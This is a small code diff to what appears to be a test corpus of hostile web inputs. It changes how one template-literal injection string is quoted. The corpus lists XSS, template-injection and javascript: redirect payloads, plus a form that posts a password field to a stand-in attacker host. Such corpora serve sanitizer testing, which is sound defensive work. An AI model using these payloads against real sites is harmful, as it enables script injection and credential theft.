@@ -21,7 +21,7 @@ const CORPUS = [
   '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
   '<form action=//evil.example><input name=password></form>',
   '{{constructor.constructor("pwned()")()}}',
-  '${pwned()}`;pwned();//',
+  `\${pwned()}\`;pwned();//`,
   '&lt;img src=x onerror=pwned()&gt; &amp; {0}',
 ] as const;
 
